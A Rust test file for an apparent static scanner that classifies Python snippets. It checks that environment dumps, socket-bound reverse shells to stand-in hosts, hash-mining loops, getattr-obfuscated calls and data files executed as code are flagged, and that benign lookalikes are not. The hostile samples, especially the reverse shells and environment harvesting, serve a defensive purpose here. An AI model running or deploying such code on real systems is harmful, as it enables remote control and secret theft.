//! What several lines of Python make together: the environment taken whole, shells on sockets, mining, paths, and files run as code.

use crate::support::{each_has, each_is, each_is_clean, none_is_rejected, rules, scan_files};

#[test]
fn the_whole_environment_is_flagged_wherever_it_is_taken() {
    each_is(
        "environment-harvest",
        "main.py",
        &[
            "import os\nx = dict(os.environ)",
            "import os\nx = os.environ.copy()",
            "import os\nfor name, value in os.environ.items():\n    print(name, value)",
            "import os\nfor name in os.environ:\n    print(name)",
            "import os, json\nx = json.dumps(dict(os.environ))",
            "import os\nprint(os.environ)",
            "from os import environ as e\nx = {**e}",
            "import os\nx = [v for v in os.environ.values()]",
            "import os\nx = {k: os.environ[k] for k in os.environ}",
            "import os\nx = f'{os.environ}'",
            "import os\ndef main(inputs, ctx):\n    return os.environ",
            "import os\ndef main(inputs, ctx):\n    return {'all': os.environ}",
            "import os\nx = '{HOME}'.format(**os.environ)",
            "import os\nx = [*os.environb]",
            "import os\ne = getattr(os, 'envi' + 'ron')\nprint(dict(e))",
        ],
    );
    each_is_clean(
        "main.py",
        &[
            "import os\nx = os.environ['HOME']",
            "import os\nx = os.environ.get('HOME', '')",
            "import os\nx = os.getenv('HOME')",
            "import os\nif 'CI' in os.environ:\n    pass",
            "import os\nos.environ['A'] = 'b'\nos.environ.pop('A', None)\nos.environ.setdefault('A', 'b')",
            "import os\ndef f(env):\n    return env['HOME']\nf(os.environ)",
            "import os\nprint(os.environ['TOKEN'])",
        ],
    );
}

#[test]
fn a_shell_on_a_connection_is_rejected() {
    each_has(
        "reverse-shell",
        "main.py",
        &[
            "import socket, os, pty\ns = socket.socket()\ns.connect(('198.51.100.7', 1))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\npty.spawn('sh')",
            "import socket as k, os as o\nc = k.create_connection(('h.example', 1))\no.dup2(c.fileno(), 0)",
            "import socket, os\ns = socket.socket()\nn = s.fileno()\nos.dup2(n, 1)",
            "import socket, subprocess\ns = socket.socket()\nsubprocess.call(['sh', '-i'], stdin=s.fileno(), stdout=s.fileno())",
            "import socket, subprocess\ns = socket.socket()\nsubprocess.Popen('sh', stdin=s, stdout=s)",
            "import socket, os\ndef go(conn):\n    os.dup2(conn.fileno(), 0)",
            "import socket, os\ns = socket.socket()\ns.bind(('', 1))\nc, a = s.accept()\nos.dup2(c.fileno(), 2)",
            "import socket, os\ns = socket.socket()\ngetattr(os, 'du' + 'p2')(s.fileno(), 0)",
        ],
    );
    let harmless = [
        "import os, sys\nos.dup2(sys.stdout.fileno(), 2)",
        "import socket\ns = socket.socket()\nprint(s.fileno())",
    ];
    none_is_rejected("main.py", &harmless);
    let piped = "import subprocess\nsubprocess.run('a', stdin=subprocess.PIPE)";
    assert!(!rules("main.py", piped).contains(&"reverse-shell".to_owned()));
}

#[test]
fn hashing_a_counter_until_it_fits_is_flagged() {
    each_has(
        "mining-loop",
        "main.py",
        &[
            "import hashlib\ndef mine(block, difficulty):\n    nonce = 0\n    while True:\n        h = hashlib.sha256(f'{block}{nonce}'.encode()).hexdigest()\n        if h[:difficulty] == '0' * difficulty:\n            return nonce\n        nonce += 1",
            "from hashlib import sha256\nimport itertools\nfor nonce in itertools.count():\n    if sha256(str(nonce).encode()).hexdigest().startswith('0000'):\n        break",
            "import hashlib\nn = 0\nwhile int(hashlib.sha256(b'%d' % n).hexdigest(), 16) > target:\n    n += 1",
            "import hashlib\ndef h(x): return hashlib.sha256(x).hexdigest()\nnonce = 0\nwhile not h(b'%d' % nonce).startswith('000'):\n    nonce += 1",
        ],
    );
    let honest = [
        "import hashlib\ndef ids(files):\n    return [hashlib.sha256(f).hexdigest() for f in files]",
        "import hashlib\ni = 0\nwhile i < len(x):\n    h = hashlib.sha256(x[i]).hexdigest()\n    i += 1",
        "import hashlib\nfor i in range(1000):\n    key = hashlib.sha256(key).digest()",
    ];
    for source in honest {
        assert!(!rules("main.py", source).contains(&"mining-loop".to_owned()), "{source}");
    }
}

#[test]
fn a_path_is_judged_by_what_is_done_with_it() {
    each_is_clean(
        "main.py",
        &[
            "from pathlib import Path\nx = Path(inputs['name']).suffix",
            "from pathlib import Path\nx = Path('a').parent.name",
            "from pathlib import Path\nx = str(Path('a') / 'b')",
            "import pathlib\nx = pathlib.Path(n).with_suffix('.csv').name",
            "from pathlib import Path\ndef f(x):\n    return isinstance(x, Path)",
            "from pathlib import Path\nclass A:\n    def write_text(self, t): self.t = t\ndef f(a):\n    a.write_text('x')",
        ],
    );
    each_is("file-path", "main.py", &["from pathlib import Path\ndef f(n):\n    return Path(n)"]);
    each_has(
        "file-system",
        "main.py",
        &[
            "from pathlib import Path\np = Path('a') / 'b'\np.exists()",
            "from pathlib import Path\nPath('a').parent.mkdir()",
            "from pathlib import Path\nPath(__file__).parents[1].joinpath('x').read_bytes()",
            "from pathlib import Path\nPath.read_text(Path('a'))",
            "from pathlib import Path\ndef f(p):\n    return p.read_text()\nf(Path('a'))",
            "from pathlib import Path\nclass A:\n    def __init__(self, n):\n        self.p = Path(n)\n    def go(self):\n        return self.p.open()",
            "from pathlib import Path\nwith Path('a').open() as f:\n    f.read()",
            "from pathlib import Path\ngetattr(Path('a'), 'read_' + 'text')()",
            "from pathlib import Path\nm = {}\nm['p'] = Path('a')\nfor v in wrap(m):\n    v.write_text('x')",
        ],
    );
    let apart = [
        ("a.py", "from pathlib import Path\nfrom b import use\ndef main(i, c):\n    use(Path(i['n']))\n"),
        ("b.py", "def use(thing):\n    return thing.read_bytes()\n"),
    ];
    let report = scan_files(&apart);
    let found: Vec<_> =
        report.findings.iter().map(|found| (found.file.as_str(), found.rule.as_str())).collect();
    assert_eq!(found, [("a.py", "file-path"), ("b.py", "file-system")]);
}

#[test]
fn modules_of_which_only_some_members_touch_files_are_judged_by_member() {
    each_is_clean(
        "main.py",
        &[
            "import shutil\nwidth = shutil.get_terminal_size().columns",
            "from shutil import copyfileobj\nimport io\ncopyfileobj(io.BytesIO(b'x'), io.BytesIO())",
            "import linecache\nlinecache.checkcache()",
            "import glob\nglob.escape('a*')",
            "from io import open",
        ],
    );
    each_has(
        "file-system",
        "main.py",
        &[
            "from shutil import rmtree",
            "from shutil import *\nrmtree('a')",
            "import shutil as s\ngetattr(s, 'rm' + 'tree')('a')",
            "from io import open\nopen('a')",
            "from io import open as o\no('a')",
            "from linecache import getline",
            "from glob import iglob",
            "import zipfile\nzipfile.shutil.rmtree('a')",
        ],
    );
    each_has(
        "computed-module",
        "main.py",
        &["import shutil\nuse(shutil)", "import shutil\ngetattr(shutil, n)('a')"],
    );
}

#[test]
fn files_that_are_run_as_code_are_scanned_whatever_they_are_called() {
    let evil = "import subprocess\nsubprocess.run('ls')\n";
    for runner in [
        "exec(open('data/x.txt').read())\n",
        "with open('data/x.txt') as f:\n    code = f.read()\neval(compile(code, 'x', 'exec'))\n",
        "import runpy\nrunpy.run_path('data/' + 'x.txt')\n",
        "import importlib.util as u\nu.spec_from_file_location('m', 'data/x.txt')\n",
        "from pathlib import Path\nexec(Path('data/x.txt').read_text())\n",
    ] {
        let report = scan_files(&[("main.py", runner), ("data/x.txt", evil)]);
        let is_found =
            report.findings.iter().any(|found| found.file == "data/x.txt" && found.rule == "process-spawn");
        assert!(is_found, "{runner}: {:?}", report.findings);
    }
    let report = scan_files(&[("main.py", "x = 'data/x.txt'\n"), ("data/x.txt", evil)]);
    assert!(report.findings.iter().all(|found| found.rule == "lying-file"), "{:?}", report.findings);
}

#[test]
fn constant_imports_are_imports() {
    none_is_rejected(
        "main.py",
        &[
            "futures = __import__('concurrent.futures').futures",
            "for lib in ('chardet', 'charset_normalizer'):\n    __import__(lib)",
            "import importlib\nfor lib in ('chardet', 'charset_normalizer'):\n    m = importlib.import_module(lib)",
            "__locals = locals()\nfor __name in __all__:\n    if not __name.startswith('__'):\n        setattr(__locals[__name], '__module__', 'a')",
        ],
    );
}
